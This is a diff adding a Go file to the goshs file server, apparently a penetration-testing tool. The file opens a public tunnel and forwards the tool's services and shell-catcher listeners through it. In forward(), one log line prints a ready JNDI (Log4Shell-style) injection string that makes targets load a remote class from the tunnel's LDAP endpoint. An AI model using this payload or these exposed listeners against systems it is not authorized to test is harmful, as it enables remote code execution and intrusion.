@@ -0,0 +1,176 @@
+package httpserver
+
+import (
+	"errors"
+	"net"
+	"net/url"
+	"path/filepath"
+	"strings"
+
+	"goshs.de/goshs/v2/catcher"
+	"goshs.de/goshs/v2/config"
+	"goshs.de/goshs/v2/logger"
+	"goshs.de/goshs/v2/service"
+	"goshs.de/goshs/v2/tunnel"
+)
+
+// startTunnel opens the tunnel to the web server. On a goshs relay the
+// running protocol servers and catcher listeners get a forward of their own,
+// which follows them when they are started or stopped later on.
+func (fs *FileServer) startTunnel() *tunnel.Tunnel {
+	configDir, err := config.Dir()
+	if err != nil {
+		logger.Errorf("tunnel: cannot resolve config directory: %+v", err)
+		return nil
+	}
+	knownHostsFile := filepath.Join(configDir, "known_hosts")
+	t, err := tunnel.Start(fs.IP, fs.Port, tunnel.Config{
+		Server:         fs.Options.TunnelServer,
+		User:           fs.Options.TunnelUser,
+		KeyFile:        fs.Options.TunnelKey,
+		HostKey:        fs.Options.TunnelHostKey,
+		KnownHostsFile: knownHostsFile,
+		TLS:            fs.SSL,
+	})
+	if err != nil {
+		var mismatch *tunnel.HostKeyMismatchError
+		if errors.As(err, &mismatch) {
+			logger.Fatalf("tunnel: %v", mismatch)
+		}
+		logger.Errorf("error starting tunnel: %+v", err)
+		return nil
+	}
+	logger.Infof("Public tunnel URL: %s", t.PublicURL)
+
+	fs.tunnelMu.Lock()
+	fs.tunnel = t
+	fs.TunnelURL = t.PublicURL
+	fs.tunnelMu.Unlock()
+
+	if fs.Options.TunnelServer == "" {
+		if fs.Services != nil {
+			for _, st := range fs.Services.Status() {
+				if st.Running && st.Name != "relay" {
+					logger.Warnf("tunnel: %v, %s stays local", tunnel.ErrHTTPOnly, st.Name)
+				}
+			}
+		}
+		return t
+	}
+	fs.tunnelWatch.Do(func() {
+		if fs.Services != nil {
+			fs.Services.Watch(fs.forwardService)
+		}
+		if fs.CatcherMgr != nil {
+			fs.CatcherMgr.Watch(fs.forwardListener)
+		}
+	})
+	if fs.Services != nil {
+		for _, st := range fs.Services.Status() {
+			fs.forwardService(st)
+		}
+	}
+	if fs.CatcherMgr != nil {
+		for _, info := range fs.CatcherMgr.GetListeners() {
+			fs.forwardListener(info, true)
+		}
+	}
+	return t
+}
+
+// stopTunnel closes t, which was opened by startTunnel.
+func (fs *FileServer) stopTunnel(t *tunnel.Tunnel) {
+	fs.tunnelMu.Lock()
+	fs.tunnel = nil
+	fs.TunnelURL = ""
+	fs.tunnelMu.Unlock()
+	t.Close()
+}
+
+func (fs *FileServer) forwardService(st service.Status) {
+	// The relay is the other end of tunnels
+	if st.Name == "relay" {
+		return
+	}
+	fs.forward(st.Name, fs.IP, st.Port, st.Running)
+}
+
+func (fs *FileServer) forwardListener(info catcher.ListenerInfo, running bool) {
+	fs.forward("catcher-"+info.ID, info.IP, info.Port, running)
+}
+
+// forward opens the forward name to ip:port on the tunnel, or closes it if
+// open is false.
+func (fs *FileServer) forward(name, ip string, port int, open bool) {
+	fs.forwardMu.Lock()
+	defer fs.forwardMu.Unlock()
+
+	fs.tunnelMu.RLock()
+	t := fs.tunnel
+	fs.tunnelMu.RUnlock()
+	if t == nil {
+		return
+	}
+
+	if !open {
+		if err := t.Unforward(name); err != nil {
+			logger.Warnf("tunnel: closing the forward of %s: %+v", name, err)
+		}
+		return
+	}
+	if parsed := net.ParseIP(ip); parsed == nil || parsed.IsUnspecified() {
+		ip = "127.0.0.1"
+	}
+	endpoint, err := t.Forward(name, ip, port)
+	if err != nil {
+		logger.Errorf("tunnel: forwarding %s: %+v", name, err)
+		return
+	}
+	logger.Infof("Public tunnel endpoint of %s: %s", name, endpoint)
+
+	if name == "ldap" && fs.Options.LDAPJNDIEnabled {
+		if u, err := url.Parse(endpoint); err == nil {
+			scheme := "ldap"
+			if fs.SSL {
+				scheme = "ldaps"
+			}
+			logger.Infof("JNDI payload through the tunnel: ${jndi:%s://%s/<class>}", scheme, u.Host)
+		}
+	}
+}
+
+// PublicURL returns the public URL of the web server while the tunnel is up.
+func (fs *FileServer) PublicURL() string {
+	fs.tunnelMu.RLock()
+	defer fs.tunnelMu.RUnlock()
+	return fs.TunnelURL
+}
+
+// tunnelEndpoint returns the public endpoint of the forward name, if any.
+func (fs *FileServer) tunnelEndpoint(name string) string {
+	for _, e := range fs.tunnelEndpoints() {
+		if e.Name == name {
+			return e.URL
+		}
+	}
+	return ""
+}
+
+func (fs *FileServer) tunnelEndpoints() []tunnel.Endpoint {
+	fs.tunnelMu.RLock()
+	t := fs.tunnel
+	fs.tunnelMu.RUnlock()
+	if t == nil {
+		return nil
+	}
+	return t.Endpoints()
+}
+
+// tunnelEndpointList lists the endpoints of the tunnel as name=url.
+func (fs *FileServer) tunnelEndpointList() string {
+	var list []string
+	for _, e := range fs.tunnelEndpoints() {
+		list = append(list, e.Name+"="+e.URL)
+	}
+	return strings.Join(list, ",")
+}